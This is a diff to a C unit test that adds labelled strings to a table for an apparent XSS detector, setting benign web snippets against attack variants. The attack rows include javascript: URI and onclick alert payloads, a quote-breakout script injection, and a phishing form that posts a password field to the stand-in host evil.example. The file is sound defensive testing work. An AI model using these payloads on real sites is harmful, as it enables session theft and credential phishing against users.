@@ -386,6 +386,17 @@ static void test_merge16_review(void **st)
 		{"javascript:void(0);alert(1)", PAYLOAD_XSS},
 		{"javascript:void(0)//\nalert(1)", PAYLOAD_XSS},
 		{"javascript:void(document.cookie=1)", PAYLOAD_XSS},
+		/* session 29, x: a '#' link whose handler does nothing (kept
+		 * at 85 since session 16), Google Tag Manager's dataLayer
+		 * line, a newsletter form to another host; the attacks beside
+		 * them (test_payload_rtx8.c) */
+		{"<a href=\"#\" onclick=\"return false;\">Read more</a>", N},
+		{"<a href=\"#\" onclick=\"return false;alert(1)\">x</a>", PAYLOAD_XSS},
+		{"window['dataLayer'] = window['dataLayer'] || [];", N},
+		{"';window['alert'](1);//", PAYLOAD_XSS},
+		{"<form action=\"//example.us1.list-manage.com/subscribe/post?u=abc\" method=\"post\">"
+		 "<input type=\"email\" name=\"EMAIL\"></form>", N},
+		{"<form action=//evil.example/login><input type=password name=p></form>", PAYLOAD_XSS},
 	};
 
 	(void)st;
